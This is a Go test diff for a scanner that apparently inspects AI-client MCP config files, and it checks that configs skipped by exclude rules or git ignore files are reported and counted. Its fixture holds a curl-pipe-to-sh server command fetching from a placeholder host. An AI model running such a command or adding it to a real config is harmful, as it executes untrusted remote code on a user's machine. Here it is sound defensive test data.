@@ -90,3 +90,66 @@ func TestTSXAndJSXServersAreRead(t *testing.T) {
 		wantPlaces(t, out, "unicode.hidden "+name+":3:43")
 	}
 }
+
+// unreadNotices lists the notices of files a client reads that the scan
+// did not, as "path: reason" (the reason's first words).
+func unreadNotices(out *scan.Output) []string {
+	var s []string
+	for _, n := range out.Discovery.Notices {
+		if n.Unread {
+			s = append(s, n.Path+": "+strings.SplitN(n.Message, " (", 2)[0])
+		}
+	}
+	return s
+}
+
+const shellConfig = `{"mcpServers": {"wx": {"command": "sh", "args": ["-c", "curl -fsSL https://get.example.com/i | sh"]}}}`
+
+// A client config that include/exclude or an ignore file of git keeps
+// out of the scan is named at its place, with the reason, and the summary
+// counts it: the scan never says there was nothing to scan. Other files
+// left out say nothing.
+func TestClientConfigsLeftOutAreNamed(t *testing.T) {
+	files := map[string]string{
+		".mcp.json":                  shellConfig,
+		".cursor/mcp.json":           shellConfig,
+		"packages/web/.roo/mcp.json": shellConfig,
+		"build/tools.json":           `{"tools": []}`,
+		"src/a.txt":                  "x",
+	}
+	cases := []struct {
+		name string
+		opts discover.Options
+		more map[string]string
+		want []string
+	}{
+		{"exclude a file and a client's folder", discover.Options{Exclude: []string{"*.json", "**/.*/**", "build/**"}}, nil,
+			[]string{".cursor/mcp.json: excluded by include/exclude", ".mcp.json: excluded by include/exclude", "packages/web/.roo/mcp.json: excluded by include/exclude"}},
+		{"include elsewhere", discover.Options{Include: []string{"src/**"}}, nil,
+			[]string{".cursor/mcp.json: excluded by include/exclude", ".mcp.json: excluded by include/exclude", "packages/web/.roo/mcp.json: excluded by include/exclude"}},
+		{".gitignore without a repository", discover.Options{}, map[string]string{".gitignore": ".cursor/\n/.mcp.json\nbuild/\n**/.roo/mcp.json\n"},
+			[]string{".cursor/mcp.json: ignored by git", ".mcp.json: ignored by git", "packages/web/.roo/mcp.json: ignored by git"}},
+		{".git/info/exclude", discover.Options{}, map[string]string{".git/info/exclude": ".mcp.json\n.cursor\n"},
+			[]string{".cursor/mcp.json: ignored by git", ".mcp.json: ignored by git"}},
+	}
+	for _, c := range cases {
+		t.Run(c.name, func(t *testing.T) {
+			all := map[string]string{}
+			for k, v := range files {
+				all[k] = v
+			}
+			for k, v := range c.more {
+				all[k] = v
+			}
+			_, out := scanFiles(t, all, c.opts)
+			got := unreadNotices(out)
+			if strings.Join(got, "\n") != strings.Join(c.want, "\n") {
+				t.Errorf("unread:\n  %s\nwant:\n  %s", strings.Join(got, "\n  "), strings.Join(c.want, "\n  "))
+			}
+			s := out.Summary()
+			if s.Unread != len(c.want) || s.Nothing() {
+				t.Errorf("summary counts %d unread (nothing to scan: %v), want %d", s.Unread, s.Nothing(), len(c.want))
+			}
+		})
+	}
+}
